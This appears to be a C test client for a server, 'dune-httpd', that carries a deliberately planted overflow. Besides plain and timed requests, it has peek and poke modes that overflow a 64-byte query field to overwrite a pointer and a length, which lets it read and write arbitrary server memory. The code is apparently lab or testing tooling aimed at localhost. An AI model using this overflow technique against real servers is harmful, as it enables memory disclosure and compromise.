/* SPDX-License-Identifier: MIT */
/*
 * http_client.c - requests to dune-httpd, honest ones and others
 *
 *	http_client PORT get PATH		print the answer
 *	http_client PORT raw TEXT		send TEXT ("\r\n" spelt out), print the answer
 *	http_client PORT peek ADDRESS LENGTH	have the parser show memory
 *	http_client PORT poke ADDRESS		have the parser write a byte
 *	http_client PORT time COUNT PATH	ticks of a request, the median
 *
 * peek and poke use the overflow that --planted plants: behind the 64 bytes of
 * the query's note lie a pointer, a length and another pointer.
 */
#include <arpa/inet.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int port;

static int connect_to_server(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(port),
				  .sin_addr = { htonl(INADDR_LOOPBACK) } };
	int fd, i;

	for (i = 0; i < 100; i++) {
		fd = socket(AF_INET, SOCK_STREAM, 0);
		if (!connect(fd, (struct sockaddr *)&at, sizeof(at)))
			return fd;
		close(fd);
		usleep(50000);
	}
	fprintf(stderr, "http_client: nobody listens to port %d\n", port);
	exit(2);
}

/* The whole answer to the last request of a connection. */
static size_t exchange(const char *request, size_t size, char *answer, size_t room)
{
	int fd = connect_to_server();
	size_t got = 0;
	ssize_t n = write(fd, request, size);

	shutdown(fd, SHUT_WR);
	while (n > 0 && got < room - 1) {
		n = read(fd, answer + got, room - 1 - got);
		got += n > 0 ? n : 0;
	}
	answer[got] = 0;
	close(fd);
	return got;
}

static int show(const char *request)
{
	static char answer[1 << 20];

	if (!exchange(request, strlen(request), answer, sizeof(answer)))
		return 1;
	fputs(answer, stdout);
	return 0;
}

static int get(const char *path)
{
	char request[8192];

	snprintf(request, sizeof(request),
		 "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", path);
	return show(request);
}

static int raw(const char *text)
{
	static char request[65536];
	size_t n = 0;

	for (; *text && n < sizeof(request) - 1; text++) {
		if (text[0] == '\\' && (text[1] == 'r' || text[1] == 'n'))
			request[n++] = *++text == 'r' ? '\r' : '\n';
		else
			request[n++] = *text;
	}
	return show(request);
}

static char *encode(char *to, const void *bytes, size_t size)
{
	const unsigned char *p = bytes;

	while (size--)
		to += sprintf(to, "%%%02x", *p++);
	return to;
}

/* @words: what is to lie behind the note. */
static int overflow(const uint64_t *words, size_t n)
{
	char path[2048], *to = path + sprintf(path, "/index.html?note=");

	memset(to, 'A', 64);
	*encode(to + 64, words, n * sizeof(*words)) = 0;
	return get(path);
}

static int compare(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return (x > y) - (x < y);
}

static uint64_t ticks(void)
{
	return __builtin_ia32_rdtsc();
}

/* One answer of a connection that goes on; false: it does not. */
static bool read_answer(int fd)
{
	static char answer[1 << 20];
	size_t got = 0, want = 0;
	char *body, *length;
	ssize_t n;

	do {
		n = read(fd, answer + got, sizeof(answer) - 1 - got);
		if (n <= 0)
			return false;
		got += n;
		answer[got] = 0;
		body = strstr(answer, "\r\n\r\n");
		length = strstr(answer, "Content-Length: ");
		if (body && length)
			want = body + 4 - answer + atol(length + 16);
	} while (!want || got < want);
	return true;
}

static int time_requests(long count, const char *path)
{
	uint64_t *times = calloc(count, sizeof(*times));
	int fd = connect_to_server();
	char request[8192];
	ssize_t size;
	long i;

	size = snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n",
			path);
	for (i = 0; i < count; i++) {
		times[i] = ticks();
		if (write(fd, request, size) != size || !read_answer(fd))
			return 1;
		times[i] = ticks() - times[i];
	}
	qsort(times, count, sizeof(*times), compare);
	printf("%lu\n", times[count / 2]);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 3 ? argv[2] : "";

	port = argc > 1 ? atoi(argv[1]) : 0;
	if (!strcmp(what, "get"))
		return get(argv[3]);
	if (!strcmp(what, "raw"))
		return raw(argv[3]);
	if (!strcmp(what, "peek") && argc > 4)
		return overflow((uint64_t[]) { strtoul(argv[3], NULL, 16), atol(argv[4]) }, 2);
	if (!strcmp(what, "poke"))
		/* It copies what is at the first address, too: no bytes. */
		return overflow((uint64_t[]) { 0, 0, strtoul(argv[3], NULL, 16) }, 3);
	if (!strcmp(what, "time") && argc > 4)
		return time_requests(atol(argv[3]), argv[4]);
	fprintf(stderr, "usage: http_client PORT get|raw|peek|poke|time ARGUMENT...\n");
	return 2;
}
